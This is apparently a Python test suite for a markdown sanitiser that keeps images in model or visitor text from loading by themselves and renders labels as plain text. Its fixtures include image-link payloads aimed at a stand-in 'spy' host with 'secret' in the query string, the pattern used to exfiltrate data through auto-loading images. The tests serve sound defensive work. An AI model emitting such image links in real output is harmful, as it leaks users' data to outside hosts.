"""Markdown from models and visitors: no image loads by itself, labels are plain text (issue 14, item 2)."""
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from atri.safe_markdown import clip_long_strings, defuse_images, has_images, plain_text

PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def rendered(text: str) -> str:
    return PARSER.render(text)


def test_every_kind_of_image_becomes_a_link_to_it():
    for source in ["![s](http://spy/x.png?d=secret)", "see ![s][ref]\n\n[ref]: http://spy/x.png",
                   "[![inner](http://spy/i.png)](http://example.com)", "| a |\n|---|\n| ![t](http://spy/t.png) |",
                   "**![bold](http://spy/b.png)**"]:
        html = rendered(defuse_images(source))
        assert "<img" not in html and 'href="http://spy/' in html, source


def test_code_and_text_without_images_are_left_exactly_as_written():
    for source in ["plain **bold** [link](http://x)", "`![not an image](x)` in code", "```\n![in a fence](x)\n```",
                   "    ![indented code](x)", "escaped \\![not](x)", "数学 $x^2$ 和 `code`"]:
        assert defuse_images(source) == source
    mixed = "`![kept](a)` then ![changed](http://spy/b)"
    assert defuse_images(mixed).startswith("`![kept](a)` then ") and not has_images(defuse_images(mixed))


def test_plain_text_shows_markdown_literally():
    for label in ["![x](http://spy/)", "**bold** _it_", ":red[colour] :material/home:", "- a list", "1. first",
                  "# heading", "<b>html</b>", "[link](http://x)", "a\nb"]:
        html = rendered(plain_text(label))
        assert "<img" not in html and "<a " not in html and "<strong>" not in html and "<em>" not in html
        assert "<li>" not in html and "<h1>" not in html and "<b>" not in html, label


def test_long_strings_are_clipped_for_display_with_how_much_is_left():
    shown = clip_long_strings({"messages": [{"content": "x" * 5000}], "n": 1}, limit=100)
    assert shown["messages"][0]["content"].endswith("… (4,900 more characters)") and shown["n"] == 1


markdownish = st.text(alphabet=st.sampled_from(list("![]()<>`*_~\\:#-1. \nabc/hs")) | st.characters(), max_size=200)


@settings(max_examples=400, deadline=None)
@given(markdownish)
def test_no_text_renders_an_image_after_defusing(text):
    assert "<img" not in rendered(defuse_images(text))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_text_without_an_image_start_is_unchanged(text):
    if "![" not in text:
        assert defuse_images(text) == text


@settings(max_examples=300, deadline=None)
@given(markdownish)
def test_no_label_renders_markup(text):
    html = rendered(plain_text(text))
    assert "<img" not in html and "<a " not in html and "<li>" not in html
